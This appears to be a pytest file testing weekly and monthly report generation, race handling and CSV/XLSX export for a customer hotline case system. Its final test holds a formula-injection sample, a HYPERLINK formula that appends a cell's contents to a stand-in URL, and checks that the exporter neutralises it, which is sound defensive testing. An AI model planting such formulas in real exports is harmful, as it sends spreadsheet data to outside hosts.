"""engine.supervision.reports.weekly, engine.supervision.reports.monthly, engine.supervision.reports.store, engine.supervision.reports.export: the weekly
report (M2) of THE WEEK and the monthly report (M3) of THE MONTH across the year end, against the
figures computed by hand in tests/report_fixtures.py; one report per period, even when two makers
race; the notable cases; CSV and XLSX read back."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from engine.clock import SettableClock
from engine.db.models import ProcessDefinition, Report
from engine.messages import english as english_text
from engine.runtime import Runtime
from engine.supervision.periods import month_period_of, week_of
from engine.supervision.reports.export import report_tables, to_csv, to_xlsx
from engine.supervision.reports.store import generate_due_reports, generate_report, set_notable_cases
from hotline.errors import cli_translation
from tests.report_fixtures import SHANGHAI, World, build_week, build_year_end_month, make_world

WEEK = week_of(date(2026, 11, 23))
MONTH = month_period_of(date(2027, 1, 1))


@pytest.fixture
def world(
    sessions: sessionmaker[Session],
    runtime: Runtime,
    clock: SettableClock,
    deployed: ProcessDefinition,
    deploy_process: Callable[[str], ProcessDefinition],
) -> World:
    return make_world(sessions, runtime, clock, deploy_process)


def weekly(world: World) -> Report:
    with world.sessions.begin() as session:
        report, created = generate_report(session, world.runtime, "weekly", WEEK, "tester")
    assert created
    return report


def test_weekly_report_per_department_with_reasons_m2(world: World) -> None:
    """M2: received, replied and closed per department, and every case not replied to or not closed with
    its reason: B waits for its reply long past the same-day deadline; C was sent back twice."""
    build_week(world)
    content = weekly(world).content
    assert content["period"] == {
        "kind": "week",
        "first": "2026-11-23",
        "last": "2026-11-29",
        "label": "2026-W48",
        "days": 7,
        "working_days": 5,
    }
    assert content["as_of"] == "2026-11-29T23:00:00+00:00"  # Monday 30 November 07:00 in Shanghai
    rows = {
        row["code"]: (row["received"], row["replied"], row["closed"], row["not_replied"], row["not_closed"])
        for row in content["departments"]
    }
    assert rows == {
        "customer_service": (0, 0, 0, 0, 0),
        "operations": (1, 1, 1, 0, 0),
        "repair": (2, 2, 1, 0, 1),
        "technical": (0, 0, 0, 0, 0),
        "billing": (3, 2, 2, 1, 1),
    }
    total = content["total"]
    assert (
        total["received"],
        total["replied"],
        total["closed"],
        total["not_replied"],
        total["not_closed"],
    ) == (6, 5, 4, 1, 2)
    assert total["rates"]["satisfaction"] == {"part": 2, "whole": 4, "rate": 0.5}
    open_cases = {row["case_number"]: row for row in content["open_cases"]}
    assert list(open_cases) == [world.cases["B"], world.cases["C"]]
    b, c = open_cases[world.cases["B"]], open_cases[world.cases["C"]]
    assert (b["department"], b["replied"], b["overdue"]) == ("billing", False, True)
    assert b["reason"] == "等待「调查处理并答复」（收费），自11-23 09:05，时限11-23 23:59，已超时151.0小时"
    assert (
        b["reason_en"]
        == "waiting at “Investigate, handle and reply” (Billing) since 11-23 09:05, due 11-23 23:59, overdue by 151.0 h"
    )
    assert (c["department"], c["replied"], c["overdue"]) == ("repair", True, True)
    assert c["reason"] == (
        "等待「调查处理并答复」（维修），自11-24 11:00，时限11-24 23:59，已超时127.0小时；"
        "客户不满意退回2次；已记录：答复超时已督办"
    )


def test_one_report_per_period_made_again_is_the_same_report(world: World) -> None:
    first = weekly(world)
    with world.sessions.begin() as session:
        again, created = generate_report(session, world.runtime, "weekly", WEEK, "someone else")
    assert (again.id, created, again.generated_by) == (first.id, False, "tester")
    with pytest.raises(ValueError), world.sessions.begin() as session:
        generate_report(session, world.runtime, "weekly", MONTH, "tester")


@pytest.mark.real_commits
def test_two_makers_racing_write_one_report(world: World) -> None:
    """Several scheduler processes may make the same report at once: exactly one is written, and the
    loser gets the winner's report (the unique constraint; PostgreSQL and SQLite)."""
    results: list[tuple[int, bool]] = []
    first = world.sessions()
    first.begin()
    mine, created = generate_report(first, world.runtime, "weekly", WEEK, "worker-1")
    assert created

    def other_worker() -> None:
        with world.sessions.begin() as session:
            report, made = generate_report(session, world.runtime, "weekly", WEEK, "worker-2")
            results.append((report.id, made))

    thread = threading.Thread(target=other_worker)
    thread.start()
    thread.join(timeout=0.5)  # it waits for the first transaction (a lock or the unique index)
    first.commit()
    first.close()
    thread.join(timeout=20)
    assert results == [(mine.id, False)]
    with world.sessions() as session:
        assert session.scalar(select(func.count(Report.id))) == 1


def test_due_reports_are_made_once(world: World) -> None:
    """The scheduler's job: on Monday 30 November 07:00 last week's report is due (and November's monthly
    report, made on the 26th, is not missing any more once made)."""
    build_week(world)
    with world.sessions.begin() as session:
        made = generate_due_reports(session, world.runtime)
    assert sorted((r.kind, r.period_start) for r in made) == [
        ("monthly", "2026-10-26"),
        ("weekly", "2026-11-23"),
    ]
    with world.sessions.begin() as session:
        assert generate_due_reports(session, world.runtime) == []


def monthly(world: World) -> Report:
    with world.sessions.begin() as session:
        report, created = generate_report(session, world.runtime, "monthly", MONTH, "tester")
    assert created
    return report


def test_monthly_report_by_category_across_the_year_end_m3(world: World) -> None:
    """M3: 26 December 2026 to 25 January 2027 by category, the IC card meter with its sub-categories."""
    build_year_end_month(world)
    content = monthly(world).content
    assert (content["period"]["first"], content["period"]["last"], content["period"]["label"]) == (
        "2026-12-26",
        "2027-01-25",
        "2027-01",
    )
    assert (content["total"]["received"], content["total"]["replied"], content["total"]["closed"]) == (
        4,
        3,
        3,
    )
    assert {
        row["code"]: (row["received"], row["replied"], row["closed"]) for row in content["processes"]
    } == {"complaint": (1, 0, 0), "consultation": (3, 3, 3)}
    categories = {row["code"]: row for row in content["categories"]}
    meter = categories["meter_fault"]
    assert (meter["received"], meter["replied"], meter["closed"], meter["complaints"]) == (3, 2, 2, 1)
    children = {
        (child["code"], bool(child.get("unspecified"))): child["received"] for child in meter["children"]
    }
    assert children[("meter_no_display", False)] == 1 and children[("meter_frozen", False)] == 1
    assert children[("meter_fault", True)] == 1  # filed under the parent itself
    assert sum(children.values()) == 3
    assert categories["leak"]["received"] == 1 and categories["billing"]["received"] == 0
    assert {
        row["code"]: (row["received"], row["replied"])
        for row in content["complaints_by_department"]
        if row["received"]
    } == {"repair": (1, 0)}
    assert [c["case_number"] for c in content["candidates"]] == [world.cases["M2"]]


def test_notable_cases_are_checked_and_kept_with_the_report_m3(world: World) -> None:
    """M3: a supervisor picks notable cases of the period (at most five) with a note each."""
    build_year_end_month(world)
    report_id = monthly(world).id
    now = world.clock.now()
    with world.sessions.begin() as session:
        report = session.get(Report, report_id)
        problems = set_notable_cases(
            session, report, [(world.cases["M0"], ""), ("TS-00000000-0000", "")], "sup1", now, SHANGHAI
        )
        assert [(p.case_number, p.reason) for p in problems] == [
            (world.cases["M0"], "outside_period"),
            ("TS-00000000-0000", "unknown"),
        ]
        assert [
            p.reason
            for p in set_notable_cases(session, report, [(world.cases["M1"], "")] * 6, "sup1", now, SHANGHAI)
        ] == ["too_many"]
        assert report.notable_cases is None
        assert (
            set_notable_cases(
                session,
                report,
                [(world.cases["M2"], "冬季水表冻裂,需提前宣传防冻"), ("", "")],
                "sup1",
                now,
                SHANGHAI,
            )
            == []
        )
    with world.sessions() as session:
        report = session.get(Report, report_id)
        (entry,) = report.notable_cases["cases"]
        assert (
            entry["case_number"],
            entry["note"],
            entry["category"],
            entry["department"],
            entry["status"],
            entry["summary"],
        ) == (
            world.cases["M2"],
            "冬季水表冻裂,需提前宣传防冻",
            "meter_frozen",
            "repair",
            "running",
            "IC卡水表冻裂,家中无水。",
        )
        assert (report.notable_by, report.notable_at) == ("sup1", now)


def test_csv_and_xlsx_carry_the_same_figures(world: World) -> None:
    """The downloads hold the page's tables: read back with csv and openpyxl, the figures are the report's."""
    build_week(world)
    report = weekly(world)
    tables = report_tables(
        "weekly", report.content, None, "zh", zone=SHANGHAI, translate=cli_translation("zh_CN")
    )
    rows = list(csv.reader(io.StringIO(to_csv(tables).decode("utf-8-sig"))))
    start = rows.index(["# 各部门受理情况"])
    header, body = rows[start + 1], rows[start + 2 : start + 8]
    assert header[:6] == ["部门", "受理", "已答复", "已办结", "未答复", "未办结"]
    assert body[1][:6] == ["生产运行", "1", "1", "1", "0", "0"]
    assert body[-1] == ["合计", "6", "5", "4", "1", "2", "50.0%", "76.9%", "66.7%", "66.7%"]
    assert body[0][6:] == ["—", "—", "—", "—"]  # customer service: nothing to divide by
    open_start = rows.index(["# 未答复或未办结工单"])
    assert [r[0] for r in rows[open_start + 2 : open_start + 4]] == [world.cases["B"], world.cases["C"]]

    workbook = load_workbook(io.BytesIO(to_xlsx(tables)))
    assert workbook.sheetnames == ["概况", "各部门受理情况", "按来源统计", "未答复或未办结工单", "抽样回访"]
    sheet = workbook["各部门受理情况"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[-1] == [
        "合计",
        6,
        5,
        4,
        1,
        2,
        0.5,
        pytest.approx(10 / 13, abs=1e-4),
        pytest.approx(4 / 6, abs=1e-4),
        pytest.approx(2 / 3, abs=1e-4),
    ]
    assert sheet.cell(row=sheet.max_row, column=7).number_format == "0.0%"
    english = report_tables("weekly", report.content, None, "en", zone=SHANGHAI, translate=english_text)
    assert english[1].headers[:3] == ["Department", "Received", "Replied"]


def test_typed_text_stays_text_in_the_exports_m3() -> None:
    """Text a customer or a member of staff typed (a description, a note) can start like a formula; the
    CSV and the XLSX keep it as text, so opening the report never runs it."""
    from engine.supervision.reports.export import Table

    typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
    table = Table(
        "notable",
        "Notable cases",
        ["case", "summary", "note", "count"],
        rows=[["TS-1", typed, "+1 by phone", -3], ["TS-2", "-", "@all", 2]],
    )
    rows = list(csv.reader(io.StringIO(to_csv([table]).decode("utf-8-sig"))))
    assert rows[2] == ["TS-1", "'" + typed, "'+1 by phone", "-3"]
    assert rows[3] == ["TS-2", "'-", "'@all", "2"]
    sheet = load_workbook(io.BytesIO(to_xlsx([table]))).active
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", typed)
    assert (sheet["D2"].data_type, sheet["D2"].value) == ("n", -3)
